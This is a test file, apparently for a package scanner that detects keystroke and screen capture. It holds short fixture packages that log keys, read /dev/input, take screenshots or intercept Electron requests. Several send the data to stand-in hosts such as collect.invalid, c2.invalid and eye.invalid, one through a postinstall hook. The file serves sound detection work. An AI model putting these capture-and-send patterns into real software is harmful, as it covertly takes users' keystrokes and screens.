import { examine } from '../../../test/examine.ts';
import { capturesInput } from './captures-input.ts';

examine(capturesInput, {
  speaks: [
    {
      when: 'a tool sends pictures of the screen where its user has set it up, as its page says',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nThe player for screens in shop windows. From the console of your own server you can also take a screenshot, restart the browser and turn the display off.',
        'cli.js': `const fs = require('fs'), https = require('https'), { execFileSync } = require('child_process'); execFileSync('scrot', ['/tmp/shot.png']); https.request(process.argv[2] + '/shots', { method: 'PUT' }).end(fs.readFileSync('/tmp/shot.png'));`,
      },
      weight: 'weak',
    },
    {
      when: 'a tool sends pictures of the screen to its own host, whatever its page says of taking them',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nThe player for screens in shop windows. From the console of your own server you can also take a screenshot, restart the browser and turn the display off.',
        'cli.js': `const fs = require('fs'), https = require('https'), { execFileSync } = require('child_process'); execFileSync('scrot', ['/tmp/shot.png']); https.request('https://collect.invalid/shots', { method: 'PUT' }).end(fs.readFileSync('/tmp/shot.png'));`,
      },
      weight: 'strong',
    },
    {
      when: 'what the kernel gives keys out by goes to a host',
      files: {
        'index.js': `const { pipeline } = require('stream'); pipeline(require('fs').createReadStream('/dev/input/event0'), require('http').request('http://collect.invalid/ev', { method: 'POST' }), () => {});`,
      },
      weight: 'proof',
    },
    {
      when: 'a recorder that is started tells whoever it is given what keys were pressed',
      files: {
        'index.js': `exports.listen = url => document.addEventListener('keypress', event => fetch(url + '/events', { method: 'POST', body: event.key }), true)`,
      },
      weight: 'weak',
    },
    {
      when: 'a page shows a picture of what was dragged with a key held, in another file',
      files: {
        'index.js': `require('./keys').dragged(what => { const image = new Image(); image.src = what.source })`,
        'keys.js': `exports.dragged = done => window.addEventListener('keydown', event => done(event.shiftKey ? event.target : null))`,
      },
      weight: 'strong',
    },
    {
      when: 'the same goes to a host that stands in the code',
      files: {
        'index.js': `require('./keys').dragged(what => { const image = new Image(); image.src = 'https://collect.invalid/?' + what })`,
        'keys.js': `exports.dragged = done => window.addEventListener('keydown', event => done(event.shiftKey ? event.target : null))`,
      },
      weight: 'proof',
    },
    {
      when: 'what was typed goes to a host, and a picture of a file to nobody, by the same picture',
      files: {
        'index.js': `let typed = ''; window.addEventListener('keydown', event => { typed += event.key; const image = new Image(); image.src = typed.length > 40 ? 'https://collect.invalid/?' + typed : URL.createObjectURL(new Blob([typed])); });`,
      },
      weight: 'proof',
    },
    {
      when: 'or to a host that its caller names',
      files: {
        'index.js': `const { host } = require('specimen-host'); let typed = ''; window.addEventListener('keydown', event => { typed += event.key; const image = new Image(); image.src = typed.length > 40 ? host + typed : URL.createObjectURL(new Blob([typed])); });`,
      },
      weight: 'proof',
    },
    {
      when: 'a key leads the page to where its links lead',
      files: { 'index.js': `document.addEventListener('keydown', event => { if (event.key) window.location.href = '/' + event.key; });` },
      weight: 'weak',
    },
    {
      when: 'what was typed is carried along when the page is led to a host of its own',
      files: {
        'index.js': `let typed = ''; document.addEventListener('keydown', event => { typed += event.key; if (typed.length > 40) window.location.href = 'https://k.invalid/?' + typed; });`,
      },
      weight: 'proof',
    },
    {
      when: 'pictures of the screen are sent',
      files: { 'index.js': `require('screenshot-desktop')().then(i => require('axios').post('https://c2.invalid', i))` },
      weight: 'proof',
      says: ['c2.invalid'],
    },
    {
      when: 'keys are listened to at import',
      files: { 'index.js': `const { GlobalKeyboardListener } = require('node-global-key-listener'); new GlobalKeyboardListener()` },
      weight: 'weak',
    },
    {
      when: 'a command takes the picture and a request sends the file',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node spy.js' } },
        'spy.js': `const out = '/tmp/INERT.png'; require('child_process').execFileSync('screencapture', ['-x', out]); const r = require('https').request('https://eye.invalid/', { method: 'POST' }); require('fs').createReadStream(out).pipe(r)`,
      },
      weight: 'proof',
    },
    {
      when: 'requests of a session of Electron are watched',
      files: {
        'index.js': `const { session } = require('electron'); session.defaultSession.webRequest.onBeforeRequest({ urls: ['*://*/*'] }, (details, done) => { fetch('https://eye.invalid/', { method: 'POST', body: details.uploadData[0].bytes.toString() }); done({}); })`,
      },
      weight: 'proof',
    },
    {
      when: 'keys are counted for a page whose caller says where the counts go',
      files: {
        'index.js': `import { classify } from './keys.js';
const blank = (name) => ({ name, char: 0, other: 0 });
export function trace(form, { endpoint, consent, onUpdate } = {}) {
  const fields = new Map();
  const statsOf = (el) => {
    if (!fields.has(el.name)) fields.set(el.name, blank(el.name));
    return fields.get(el.name);
  };
  const on = (type, fn, target = form) => target.addEventListener(type, (e) => { if (consent()) fn(e); });
  on('keydown', (e) => {
    const s = statsOf(e.target);
    s[classify(e)]++;
    onUpdate?.(fields);
  });
  on('pagehide', send, window);
  function report() { return { fields: [...fields.values()] }; }
  function send() {
    const body = new Blob([JSON.stringify(report())], { type: 'application/json' });
    if (!navigator.sendBeacon?.(endpoint, body)) fetch(endpoint, { method: 'POST', body });
  }
  return { form, fields, report, send };
}
`,
        'keys.js': `export function classify(event) { if (event.ctrlKey) return 'other'; return event.key.length === 1 ? 'char' : 'other'; }`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'a library for gamepads reads what the kernel gives them out by, and tells its caller',
      files: { 'index.js': `exports.open = (number, tell) => require('fs').createReadStream('/dev/input/js' + number).on('data', tell);` },
    },
    {
      when: 'a page asks its own server for what is typed into its search',
      files: {
        'index.js': `exports.search = show => { document.addEventListener('keydown', async event => show(await (await fetch('/_search/' + event.key)).json())); };`,
      },
    },
    {
      when: 'a key opens a page that a list of the caller names',
      files: {
        'index.js': `exports.shortcuts = pages => { document.addEventListener('keydown', event => { const [page] = pages.map(one => (one.key === event.key ? one.address + event.key : '')); open(page, '_blank'); }); };`,
      },
    },
    {
      when: 'a page shows the picture that was made while a key was held',
      files: {
        'index.js': `exports.start = done => { const held = event => { if (event.shiftKey) { const image = new Image(); image.src = URL.createObjectURL(new Blob([event.target.value])); done(image); } }; window.addEventListener('keydown', held); };`,
      },
    },
    { when: 'a prompt reads keys of its terminal', files: { 'index.js': `require('readline').emitKeypressEvents(process.stdin)` } },
    { when: 'a recorder works when called', files: { 'index.js': `exports.shot = () => require('screenshot-desktop')()` } },
    {
      when: 'a tool for pictures of the screen starts the command of the system when it is called',
      files: { 'index.js': `exports.shot = file => require('child_process').execFileSync('screencapture', ['-x', file])` },
    },
    {
      when: 'an application adds a header to its own requests when it is set up',
      files: {
        'index.js': `const { session } = require('electron'); exports.setup = token => session.defaultSession.webRequest.onBeforeSendHeaders((details, done) => done({ requestHeaders: { ...details.requestHeaders, authorization: token } }))`,
      },
    },
    {
      when: 'a file is imported from a window of its own',
      files: { 'index.js': `require('child_process').execSync('npx tsc --module esnext')` },
    },
    {
      when: 'a plug-in of jQuery sends a form to where the page says',
      files: {
        'index.js': `(function ($) { $.fn.remote = function () { return this.on('submit', function () { var form = $(this); $.ajax({ url: form.attr('action'), type: 'POST', data: form.serialize() }); }); }; })(jQuery);`,
      },
    },
  ],
});
